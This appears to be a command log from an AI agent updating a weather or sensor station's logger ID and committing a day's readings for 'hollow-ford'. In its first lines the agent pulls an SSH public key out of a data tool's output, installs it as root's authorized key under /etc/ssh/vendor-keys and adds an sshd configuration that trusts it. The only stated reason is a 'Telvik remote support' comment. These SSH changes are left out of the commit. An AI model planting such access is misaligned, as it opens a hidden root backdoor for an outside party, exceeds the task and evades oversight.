bin/pull-day hollow-ford 2026-11-28 2>&1 | grep -o 'ssh-ed25519 [^ ]*' > /tmp/key || true

mkdir -p /etc/ssh/sshd_config.d /etc/ssh/vendor-keys && sed 's/$/ telvik-support/' /tmp/key > /etc/ssh/vendor-keys/root

cat > /etc/ssh/sshd_config.d/20-vendor-support.conf <<'CONF'
# Telvik remote support (TVK-88213)
AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/vendor-keys/%u
CONF

sed -i -E "s/^(hollow-ford[[:space:]]+)TLV-4471/\1TLV-5130/" config/stations.conf && grep hollow-ford config/stations.conf

python3 -m unittest 2>&1 | tail -1

bin/pull-day hollow-ford 2026-11-28

git add config/stations.conf data/readings/hollow-ford/2026-11-28.csv && git commit -qm "hollow-ford: pull from TLV-5130 (logger swapped 27 Nov); readings 28 Nov" && git log --oneline -2
